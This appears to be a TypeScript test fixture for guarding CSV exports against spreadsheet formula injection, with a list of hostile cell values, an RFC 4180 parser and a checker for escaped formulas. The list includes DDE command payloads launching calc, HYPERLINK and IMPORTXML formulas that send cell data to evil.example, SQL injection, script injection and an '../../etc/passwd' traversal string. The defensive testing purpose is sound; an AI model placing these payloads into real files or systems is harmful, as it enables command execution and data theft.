// What somebody may call a thing so that a spreadsheet runs it, or loses its rows over it, and how a file is held against that: read again as RFC 4180
// says, every cell is where it was, and none is a formula.

/** Each could be a name, a reason or an address. */
export const HOSTILE_CELLS: readonly string[] = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '=',
    '+',
    '-',
    '@',
    '=@',
    '-0x1',
    '-1e5',
    '+44 20 7946',
    '--1',
    '-1-1',
    '1-1',
  ],
  ...[
    '\t=1',
    '\r=1',
    '\n=1',
    '\r\n=1',
    '\tx',
    '\rx',
    '\nx',
    '\r',
    '\n',
    '\t',
    ' =1',
    '\u00a0=1',
    '\u0000=1',
    '\ufeff=1',
  ],
  ...['＝1', '＋1', '－1', '＠1', '\u000b=1', '\u0085=1', '\u2028=1', '\u3000=1'],
  ...[
    '"',
    '""',
    '"=1"',
    '",=1,"',
    '"\r\n=1\r\n"',
    'a,=1',
    'a;=1',
    'a\r\n=1,"b',
    'a\n=1',
    ',',
    ',,,',
    '\\"',
    "'",
    "'=1",
  ],
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '-2+3+cmd|\u0027 /C calc\u0027!D2',
  '@SUM(1+1)*cmd|\u0027 /C calc\u0027!A0',
  ...[
    '<script>alert(1)</script>',
    '{{7*7}}',
    '%00',
    '%_',
    "'; DROP TABLE nodes; --",
    '../../etc/passwd',
    'null',
    'true',
    'NaN',
  ],
  ...['مرحبا', 'עברית', '\u202e=1', '日本語', '👩‍👩‍👧‍👧', 'Z̸̢a̷l̵g̶o̴', '\u200b=1', 'ﷺ'],
  ...['='.repeat(20_000), 'x'.repeat(20_000), '"'.repeat(5_000), '\n'.repeat(5_000), ','.repeat(5_000)],
]

/** As a spreadsheet reads it. @throws Error where something stands that RFC 4180 does not know */
export function readCsv(text: string): string[][] {
  const rows: string[][] = []
  const cell = /"((?:[^"]|"")*)"|[^",\r\n]*/y
  let row: string[] = []
  while (cell.lastIndex < text.length) {
    const [whole = '', quoted] = cell.exec(text) ?? []
    row.push(quoted === undefined ? whole : quoted.replaceAll('""', '"'))
    if (text[cell.lastIndex] === ',') cell.lastIndex += 1
    else if (text.startsWith('\r\n', cell.lastIndex)) {
      rows.push(row)
      row = []
      cell.lastIndex += 2
    } else throw new Error(`neither a comma nor the end of a row at ${cell.lastIndex}`)
  }
  if (row.length > 0) throw new Error('the last row has no end')
  return rows
}

const NUMBER = /^-?\d+(\.\d+)?$/
/** Spreadsheets leave white space away, and some read the full width alike. */
const FORMULA = /^[\s\p{Cc}]*[=+\-@＝＋－＠]|^[\t\r\n]/u
export const isFormula = (cell: string): boolean => FORMULA.test(cell) && !NUMBER.test(cell)

/** What is wrong with a file that should have these cells. */
export function faultsOf(text: string, cells: readonly string[]): string[] {
  const [header = [], ...rows] = readCsv(text)
  const found = new Set(rows.flat())
  const short = (cell: string) => JSON.stringify(cell.slice(0, 40))
  return [
    ...rows.flatMap((row, n) => (row.length === header.length ? [] : [`row ${n} has ${row.length} cells`])),
    ...[header, ...rows].flatMap((row) => row.filter(isFormula).map((cell) => `a formula: ${short(cell)}`)),
    // What a sheet would have run stands behind an apostrophe, all else as it was.
    ...cells.filter((cell) => !found.has(isFormula(cell) ? `'${cell}` : cell)).map((cell) => `lost: ${short(cell)}`),
  ]
}
